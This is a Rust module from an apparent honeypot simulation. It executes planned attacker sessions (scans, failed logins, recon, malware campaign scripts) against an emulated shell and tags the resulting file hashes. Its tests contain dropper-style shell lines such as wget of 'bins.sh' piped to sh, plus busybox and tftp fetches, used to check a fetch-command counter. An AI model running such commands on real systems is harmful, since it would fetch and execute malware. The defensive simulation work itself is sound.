//! Plan execution: one [`SessionPlan`] → one [`SessionRecord`], via the real
//! honeypot state machine.

use std::sync::Arc;

use hf_agents::campaigns::{recon_script, CampaignCatalog};
use hf_agents::credentials::CredentialModel;
use hf_agents::{Behavior, ClientPool, SessionPlan};
use hf_farm::{FarmPlan, TagDb};
use hf_hash::{Digest, Sha256};
use hf_honeypot::{HoneypotConfig, SessionDriver, SessionRecord};
use hf_proto::creds::Credentials;
use hf_proto::ssh_ident::CLIENT_BANNERS;
use hf_proto::Protocol;
use hf_shell::{LineBuf, RemoteFetcher};
use hf_simclock::SimInstant;
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use crate::error::SimError;

/// Fetcher that serves a single campaign payload for any URI — the simulated
/// equivalent of the dropper's distribution host. The body is shared
/// (`Arc`) and its digest pre-computed, so every session of a (campaign,
/// variant) hands the shell a ready digest hint instead of re-hashing the
/// same dropper on each download.
struct CampaignFetcher {
    body: Arc<Vec<u8>>,
    digest: Digest,
}

#[cfg(test)]
impl CampaignFetcher {
    fn new(body: Vec<u8>) -> Self {
        let digest = Sha256::digest(&body);
        CampaignFetcher {
            body: Arc::new(body),
            digest,
        }
    }
}

impl RemoteFetcher for CampaignFetcher {
    fn fetch(&mut self, _uri: &str) -> Option<Vec<u8>> {
        Some(self.body.as_ref().clone())
    }

    fn digest_hint(&self, _uri: &str) -> Option<Digest> {
        Some(self.digest)
    }
}

/// One script line, parsed once: the raw text, its pre-lexed statement
/// buffer, and the number of transfer commands on the line.
#[derive(Debug)]
pub struct PreparedLine {
    /// The line as the client would type it.
    pub text: String,
    /// Pre-parsed statements (reused read-only by every session).
    pub buf: LineBuf,
    /// Fetch commands on the line (each adds transfer time + timer reset).
    pub transfers: u32,
}

fn prepare_lines(lines: &[String]) -> Vec<PreparedLine> {
    lines
        .iter()
        .map(|text| {
            let mut buf = LineBuf::new();
            buf.parse(text);
            PreparedLine {
                text: text.clone(),
                buf,
                transfers: transfer_count(text),
            }
        })
        .collect()
}

/// A campaign variant's prepared form: pre-parsed script plus the shared
/// payload body and its digest (for the per-session `CampaignFetcher`).
#[derive(Debug)]
pub struct PreparedScript {
    /// Pre-parsed script lines.
    pub lines: Vec<PreparedLine>,
    body: Arc<Vec<u8>>,
    digest: Digest,
}

/// Day-prepared scripts for the *full-emulation* path: every campaign
/// variant and recon template a day's plans reference, lexed and parsed
/// once. Sessions then execute through
/// [`hf_honeypot::SessionDriver::run_parsed_quiet`] — the shell still runs
/// per session (real VFS, real events), but parsing happens once per
/// (campaign, variant) per study, not once per session.
///
/// Entries persist across days (variants repeat), so [`PreparedScripts::prepare_day`]
/// only fills gaps. The pre-pass runs before the day's first batch
/// executes; execution then reads the map immutably.
#[derive(Debug, Default)]
pub struct PreparedScripts {
    campaigns: std::collections::HashMap<(u32, u32), PreparedScript>,
    recon: std::collections::HashMap<u64, Vec<PreparedLine>>,
}

impl PreparedScripts {
    /// Empty set.
    pub fn new() -> Self {
        Self::default()
    }

    /// Number of prepared entries (campaign variants + recon templates).
    pub fn len(&self) -> usize {
        self.campaigns.len() + self.recon.len()
    }

    /// Is the set empty?
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Ensure every script a day's plans will execute is prepared.
    pub fn prepare_day(&mut self, ctx: &ExecCtx<'_>, plans: &[SessionPlan]) {
        for plan in plans {
            match plan.behavior {
                Behavior::Script { campaign } => {
                    let spec = ctx.catalog.get(campaign);
                    let variant = spec.variant_on(plan.day);
                    self.campaigns
                        .entry((campaign.0, variant))
                        .or_insert_with(|| {
                            let body = spec.payload_bytes(variant);
                            let digest = Sha256::digest(&body);
                            PreparedScript {
                                lines: prepare_lines(&spec.script(variant)),
                                body: Arc::new(body),
                                digest,
                            }
                        });
                }
                Behavior::Recon { variant } => {
                    let key = recon_key(plan, variant);
                    self.recon
                        .entry(key)
                        .or_insert_with(|| prepare_lines(&recon_script(key)));
                }
                _ => {}
            }
        }
    }
}

/// Number of network-fetch commands on one shell line.
///
/// A line may chain several commands (`cd /tmp; wget a && wget b`); each
/// fetch counts once, because each adds transfer time and resets the idle
/// timer. Recognized fetchers — optionally behind a `busybox` prefix — are
/// `wget`, `curl`, `ftpget`, and `tftp` in get mode (a `-g` flag, alone or
/// combined as in `-gr`). Matching is on the command position only, so
/// `echo wget` does not count, and a line is never counted twice for
/// matching both a prefix and a substring pattern.
fn transfer_count(line: &str) -> u32 {
    line.split(['|', ';', '&'])
        .filter(|seg| {
            let mut toks = seg.split_whitespace();
            let mut cmd = match toks.next() {
                Some(t) => t,
                None => return false,
            };
            if cmd == "busybox" {
                cmd = match toks.next() {
                    Some(t) => t,
                    None => return false,
                };
            }
            match cmd {
                "wget" | "curl" | "ftpget" => true,
                "tftp" => {
                    toks.any(|t| t.starts_with('-') && !t.starts_with("--") && t[1..].contains('g'))
                }
                _ => false,
            }
        })
        .count() as u32
}

/// Does the line run at least one fetch command? (Predicate form of
/// [`transfer_count`]; execution paths use the count directly.)
#[cfg(test)]
fn is_transfer_line(line: &str) -> bool {
    transfer_count(line) > 0
}

/// Shared execution context (immutable per run).
pub struct ExecCtx<'a> {
    /// Farm deployment: honeypot profiles.
    pub plan: &'a FarmPlan,
    /// Per-honeypot configs, pre-built (index = honeypot id) and shared
    /// with every session started on that node.
    pub configs: &'a [Arc<HoneypotConfig>],
    /// Campaign catalog for scripts/payloads.
    pub catalog: &'a CampaignCatalog,
    /// Credential model (Table 2).
    pub creds: &'a CredentialModel,
    /// Client pool for IP lookup.
    pub pool: &'a ClientPool,
}

/// Build the per-honeypot configs once; sessions share them.
pub fn build_configs(plan: &FarmPlan) -> Vec<Arc<HoneypotConfig>> {
    plan.nodes
        .iter()
        .map(|n| Arc::new(HoneypotConfig::paper(n.profile())))
        .collect()
}

/// Execute a plan with full shell emulation against day-prepared scripts:
/// the real per-session shell runs (fresh VFS, real events, real timing),
/// but script lines come pre-parsed from [`PreparedScripts::prepare_day`]
/// and campaign payload digests are pre-computed. Byte-identical to the
/// test-only reference `execute_plan` for the same plan; a missing entry is
/// a pre-pass coverage bug surfaced as a typed [`SimError`].
pub fn execute_plan_full(
    ctx: &ExecCtx<'_>,
    plan: &SessionPlan,
    tags: &mut TagDb,
    prepared: &PreparedScripts,
) -> Result<SessionRecord, SimError> {
    let (lines, fetcher): (&[PreparedLine], Box<dyn RemoteFetcher>) = match plan.behavior {
        Behavior::Script { campaign } => {
            let variant = ctx.catalog.get(campaign).variant_on(plan.day);
            let script = prepared.campaigns.get(&(campaign.0, variant)).ok_or(
                SimError::MissingPreparedScript {
                    campaign: campaign.0,
                    variant,
                },
            )?;
            let fetcher = CampaignFetcher {
                body: Arc::clone(&script.body),
                digest: script.digest,
            };
            (&script.lines, Box::new(fetcher))
        }
        Behavior::Recon { variant } => {
            let key = recon_key(plan, variant);
            let lines = prepared
                .recon
                .get(&key)
                .ok_or(SimError::MissingPreparedRecon { key })?;
            (lines, Box::new(hf_shell::NullFetcher))
        }
        _ => (&[], Box::new(hf_shell::NullFetcher)),
    };
    Ok(run_session(
        ctx,
        plan,
        tags,
        fetcher,
        lines,
        |driver, line, think_secs| {
            driver
                .run_parsed_quiet(&line.buf, think_secs)
                .map(|_| line.transfers)
        },
    ))
}

/// Execute a single plan, returning the finished record and tagging any
/// produced hashes in `tags`. The reference line executor, kept only for
/// the tests that hold [`execute_plan_full`] to it: every script line is
/// lexed and rendered as the session types it, transfers are counted on the
/// fly, and the campaign payload is hashed per session.
#[cfg(test)]
fn execute_plan(ctx: &ExecCtx<'_>, plan: &SessionPlan, tags: &mut TagDb) -> SessionRecord {
    let (lines, fetcher): (Vec<String>, Box<dyn RemoteFetcher>) = match plan.behavior {
        Behavior::Script { campaign } => {
            let spec = ctx.catalog.get(campaign);
            let variant = spec.variant_on(plan.day);
            let fetcher = CampaignFetcher::new(spec.payload_bytes(variant));
            (spec.script(variant), Box::new(fetcher))
        }
        Behavior::Recon { variant } => (
            recon_script(recon_key(plan, variant)),
            Box::new(hf_shell::NullFetcher),
        ),
        _ => (Vec::new(), Box::new(hf_shell::NullFetcher)),
    };
    run_session(
        ctx,
        plan,
        tags,
        fetcher,
        &lines,
        |driver, line, think_secs| {
            let transfers = transfer_count(line);
            driver.run_command(line, think_secs).map(|_| transfers)
        },
    )
}

/// The one session skeleton: RNG draw order, the five [`Behavior`] arms,
/// the close/timeout tail, and hash tagging. `lines` is the script a
/// `Recon`/`Script` plan types (empty otherwise) in whatever form the
/// caller holds it; `run_line` executes one line after `think_secs` and
/// returns the number of transfers it started, or `None` once the session
/// has ended. That is the only part [`execute_plan_full`] and its test-only
/// reference `execute_plan` do differently.
fn run_session<L>(
    ctx: &ExecCtx<'_>,
    plan: &SessionPlan,
    tags: &mut TagDb,
    fetcher: Box<dyn RemoteFetcher>,
    lines: &[L],
    run_line: impl Fn(&mut SessionDriver, &L, u32) -> Option<u32>,
) -> SessionRecord {
    let mut rng = SmallRng::seed_from_u64(plan.seed);
    let client = ctx.pool.get(plan.client);
    let start = SimInstant::from_day_and_secs(plan.day, plan.start_secs.min(86_399));
    let config = Arc::clone(&ctx.configs[plan.honeypot as usize]);

    let mut driver = SessionDriver::accept(
        config,
        plan.honeypot,
        plan.protocol,
        client.ip,
        rng.gen_range(1024..65_535),
        start,
        fetcher,
    );

    if plan.protocol == Protocol::Ssh {
        driver.client_banner(CLIENT_BANNERS[rng.gen_range(0..CLIENT_BANNERS.len())]);
    }

    match plan.behavior {
        Behavior::Scan { linger_secs } => {
            if driver.advance(linger_secs as u32) {
                driver.client_close();
            }
        }
        Behavior::Scout { attempts } => {
            for _ in 0..attempts {
                let c = ctx.creds.failed(&mut rng);
                driver.offer_credentials(c, rng.gen_range(1..5));
                if driver.finished() {
                    break;
                }
            }
            driver.client_close();
        }
        Behavior::LoginIdle { idle_to_timeout } => {
            login(&mut driver, ctx, None, &mut rng);
            if idle_to_timeout {
                // Wait out the 3-minute idle timer.
                driver.advance(200);
            } else {
                driver.advance(rng.gen_range(3..50));
                driver.client_close();
            }
        }
        Behavior::Recon { .. } => {
            login(&mut driver, ctx, None, &mut rng);
            for line in lines {
                if run_line(&mut driver, line, rng.gen_range(1..6)).is_none() {
                    break;
                }
            }
            // A substantial share of CMD sessions end in the idle timeout
            // (Fig. 7); the rest close promptly.
            close_or_idle_out(&mut driver, &mut rng, 35);
        }
        Behavior::Script { campaign } => {
            let spec = ctx.catalog.get(campaign);
            login(&mut driver, ctx, spec.fixed_password, &mut rng);
            for line in lines {
                let Some(transfers) = run_line(&mut driver, line, rng.gen_range(1..5)) else {
                    break;
                };
                for _ in 0..transfers {
                    // Transfer time; resets the idle timer (CMD+URI sessions
                    // may legitimately exceed the 3-minute cap).
                    driver.external_transfer(rng.gen_range(2..120));
                }
            }
            close_or_idle_out(&mut driver, &mut rng, 20);
            let record = driver.into_record();
            tag_hashes(tags, &record, spec.tag.label(), &spec.name);
            return record;
        }
    }
    driver.into_record()
}

/// Recon template selector: the planned variant perturbed by the plan seed.
fn recon_key(plan: &SessionPlan, variant: u16) -> u64 {
    variant as u64 ^ (plan.seed % 8)
}

/// End a shell session that is still open: `timeout_pct` percent sit out
/// the idle timer, the rest close promptly.
fn close_or_idle_out(driver: &mut SessionDriver, rng: &mut SmallRng, timeout_pct: u32) {
    if !driver.finished() {
        if rng.gen_range(0..100) < timeout_pct {
            driver.advance(200);
        } else {
            driver.client_close();
        }
    }
}

/// Attribute every hash a session produced to its campaign.
fn tag_hashes(tags: &mut TagDb, record: &SessionRecord, tag: &str, campaign: &str) {
    for h in record
        .file_hashes
        .iter()
        .chain(record.download_hashes.iter())
    {
        tags.record(*h, tag, campaign);
    }
}

/// Log in, possibly with a preceding failed attempt (NO_CMD sessions "might
/// have had unsuccessful login attempts prior to the successful one").
fn login(
    driver: &mut SessionDriver,
    ctx: &ExecCtx<'_>,
    fixed_password: Option<&str>,
    rng: &mut SmallRng,
) {
    if rng.gen_range(0..100) < 12 {
        let c = ctx.creds.failed(rng);
        driver.offer_credentials(c, rng.gen_range(1..4));
    }
    let creds = match fixed_password {
        Some(pw) => Credentials::new("root", pw),
        None => ctx.creds.successful(rng),
    };
    driver.offer_credentials(creds, rng.gen_range(1..4));
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_agents::{ClientRef, Ecosystem, EcosystemConfig, Scale};
    use hf_simclock::StudyWindow;

    struct Fixture {
        eco: Ecosystem,
        configs: Vec<Arc<HoneypotConfig>>,
    }

    fn fixture() -> Fixture {
        let mut eco = Ecosystem::new(EcosystemConfig {
            seed: 77,
            scale: Scale::tiny(),
            window: StudyWindow::first_days(30),
        });
        // Force some allocation so the pool has clients.
        eco.plan_day(0);
        let configs = build_configs(&eco.plan);
        Fixture { eco, configs }
    }

    fn ctx<'a>(f: &'a Fixture, pool_len_check: bool) -> ExecCtx<'a> {
        assert!(!pool_len_check || f.eco.n_clients() > 0);
        ExecCtx {
            plan: &f.eco.plan,
            configs: &f.configs,
            catalog: &f.eco.catalog,
            creds: &f.eco.creds,
            pool: f.eco.pool_ref(),
        }
    }

    fn plan_with(behavior: Behavior, protocol: Protocol) -> SessionPlan {
        SessionPlan {
            day: 3,
            start_secs: 1000,
            honeypot: 5,
            protocol,
            client: ClientRef(0),
            behavior,
            seed: 99,
        }
    }

    #[test]
    fn scan_plan_yields_no_cred_record() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Scan { linger_secs: 5 }, Protocol::Telnet),
            &mut tags,
        );
        assert!(rec.logins.is_empty());
        assert!(rec.commands.is_empty());
        assert_eq!(rec.protocol, Protocol::Telnet);
        assert_eq!(rec.ssh_client_version, None);
        assert_eq!(rec.duration_secs, 5);
    }

    #[test]
    fn scan_with_long_linger_times_out() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Scan { linger_secs: 75 }, Protocol::Ssh),
            &mut tags,
        );
        assert_eq!(rec.ended_by, hf_honeypot::EndReason::Timeout);
        assert_eq!(rec.duration_secs, 60);
        assert!(rec.ssh_client_version.is_some());
    }

    #[test]
    fn scout_plan_fails_logins() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Scout { attempts: 3 }, Protocol::Ssh),
            &mut tags,
        );
        assert_eq!(rec.logins.len(), 3);
        assert!(!rec.login_succeeded());
        assert!(rec.commands.is_empty());
    }

    #[test]
    fn login_idle_times_out() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(
                Behavior::LoginIdle {
                    idle_to_timeout: true,
                },
                Protocol::Ssh,
            ),
            &mut tags,
        );
        assert!(rec.login_succeeded());
        assert!(rec.commands.is_empty());
        assert_eq!(rec.ended_by, hf_honeypot::EndReason::Timeout);
        assert!(rec.duration_secs >= 180);
    }

    #[test]
    fn recon_plan_runs_commands_without_files() {
        let f = fixture();
        let c = ctx(&f, true);
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Recon { variant: 2 }, Protocol::Ssh),
            &mut tags,
        );
        assert!(rec.login_succeeded());
        assert!(!rec.commands.is_empty());
        assert!(rec.file_hashes.is_empty(), "recon must not create files");
        assert!(rec.uris.is_empty());
        assert!(tags.is_empty());
    }

    #[test]
    fn h1_script_produces_stable_hash_and_tag() {
        let f = fixture();
        let c = ctx(&f, true);
        let h1 = f.eco.catalog.by_name("H1").unwrap().id;
        let mut tags = TagDb::new();
        let rec1 = execute_plan(
            &c,
            &plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh),
            &mut tags,
        );
        let mut p2 = plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh);
        p2.seed = 12345;
        p2.honeypot = 17;
        let rec2 = execute_plan(&c, &p2, &mut tags);
        assert!(rec1.login_succeeded());
        assert_eq!(rec1.file_hashes.len(), 1);
        assert_eq!(
            rec1.file_hashes, rec2.file_hashes,
            "campaign identity: same script, same hash, any honeypot"
        );
        assert_eq!(tags.tag(&rec1.file_hashes[0]), Some("trojan"));
        assert!(rec1.uris.is_empty(), "H1 is CMD, not CMD+URI");
    }

    #[test]
    fn downloader_script_produces_uri_download_and_hash() {
        let f = fixture();
        let c = ctx(&f, true);
        let h5 = f.eco.catalog.by_name("H5").unwrap();
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Script { campaign: h5.id }, Protocol::Telnet),
            &mut tags,
        );
        assert!(rec.accessed_uri(), "downloader must record its URI");
        assert_eq!(rec.download_hashes.len(), 1);
        assert_eq!(rec.file_hashes.len(), 1);
        assert_eq!(
            rec.download_hashes[0], rec.file_hashes[0],
            "file content equals downloaded body"
        );
        assert_eq!(tags.tag(&rec.file_hashes[0]), Some("mirai"));
    }

    #[test]
    fn miner_script_writes_two_files() {
        let f = fixture();
        let c = ctx(&f, true);
        let m1 = f.eco.catalog.by_name("M1").unwrap().id;
        let mut tags = TagDb::new();
        let rec = execute_plan(
            &c,
            &plan_with(Behavior::Script { campaign: m1 }, Protocol::Ssh),
            &mut tags,
        );
        assert_eq!(rec.file_hashes.len(), 2, "miner drops binary + config");
        assert!(rec.accessed_uri());
    }

    #[test]
    fn execution_is_deterministic() {
        let f = fixture();
        let c = ctx(&f, true);
        let h1 = f.eco.catalog.by_name("H1").unwrap().id;
        let p = plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh);
        let mut t1 = TagDb::new();
        let mut t2 = TagDb::new();
        assert_eq!(execute_plan(&c, &p, &mut t1), execute_plan(&c, &p, &mut t2));
    }

    #[test]
    fn transfer_count_recognizes_fetch_commands() {
        // Plain fetchers in command position.
        assert_eq!(transfer_count("wget http://1.2.3.4/bins.sh"), 1);
        assert_eq!(transfer_count("curl -O http://1.2.3.4/x"), 1);
        assert_eq!(transfer_count("ftpget -u a -p b host x x"), 1);
        assert_eq!(transfer_count("tftp -g -r update.bin 1.2.3.4"), 1);
        assert_eq!(transfer_count("tftp -gr update.bin 1.2.3.4"), 1);
        assert_eq!(transfer_count("busybox wget http://1.2.3.4/x"), 1);
        // tftp without get mode is not a fetch.
        assert_eq!(transfer_count("tftp 1.2.3.4"), 0);
        // Mentioning a fetcher is not running one.
        assert_eq!(transfer_count("echo wget"), 0);
        assert_eq!(transfer_count("cat wget.log"), 0);
        // Chained fetches each count once — no prefix/substring double
        // count, no collapsing to a single transfer.
        assert_eq!(
            transfer_count("cd /tmp; wget http://a/x && wget http://a/y"),
            2
        );
        assert_eq!(transfer_count("wget http://a/x | sh"), 1);
        assert_eq!(transfer_count("cd /tmp && chmod 777 ."), 0);
    }

    #[test]
    fn is_transfer_line_wraps_count() {
        assert!(is_transfer_line("wget http://a/x"));
        assert!(!is_transfer_line("echo wget"));
    }

    #[test]
    fn full_prepared_matches_reference_execution() {
        // The prepared full-emulation path (pre-parsed scripts, digest
        // hints, quiet execution) must be bit-identical to execute_plan for
        // every behavior shape.
        let f = fixture();
        let c = ctx(&f, true);
        let h5 = f.eco.catalog.by_name("H5").unwrap().id;
        let h1 = f.eco.catalog.by_name("H1").unwrap().id;
        let plans = vec![
            plan_with(Behavior::Script { campaign: h5 }, Protocol::Telnet),
            plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh),
            plan_with(Behavior::Recon { variant: 3 }, Protocol::Ssh),
            plan_with(Behavior::Scan { linger_secs: 5 }, Protocol::Telnet),
            plan_with(Behavior::Scout { attempts: 2 }, Protocol::Ssh),
            plan_with(
                Behavior::LoginIdle {
                    idle_to_timeout: false,
                },
                Protocol::Ssh,
            ),
        ];
        let mut prepared = PreparedScripts::new();
        prepared.prepare_day(&c, &plans);
        assert!(!prepared.is_empty());

        let mut ref_tags = TagDb::new();
        let reference: Vec<_> = plans
            .iter()
            .map(|p| execute_plan(&c, p, &mut ref_tags))
            .collect();
        let mut full_tags = TagDb::new();
        let full: Vec<_> = plans
            .iter()
            .map(|p| execute_plan_full(&c, p, &mut full_tags, &prepared).unwrap())
            .collect();

        assert_eq!(reference, full);
        assert_eq!(ref_tags.len(), full_tags.len());
        for (h, e) in ref_tags.iter() {
            assert_eq!(full_tags.tag(h), Some(e.tag.as_str()));
        }
    }

    #[test]
    fn missing_prepared_entry_is_a_typed_error() {
        let f = fixture();
        let c = ctx(&f, true);
        let h1 = f.eco.catalog.by_name("H1").unwrap().id;
        let empty = PreparedScripts::new();
        let mut tags = TagDb::new();
        let err = execute_plan_full(
            &c,
            &plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh),
            &mut tags,
            &empty,
        )
        .unwrap_err();
        assert!(matches!(
            err,
            crate::error::SimError::MissingPreparedScript { campaign, .. } if campaign == h1.0
        ));

        let err = execute_plan_full(
            &c,
            &plan_with(Behavior::Recon { variant: 3 }, Protocol::Ssh),
            &mut tags,
            &empty,
        )
        .unwrap_err();
        assert!(matches!(
            err,
            crate::error::SimError::MissingPreparedRecon { .. }
        ));
    }
}
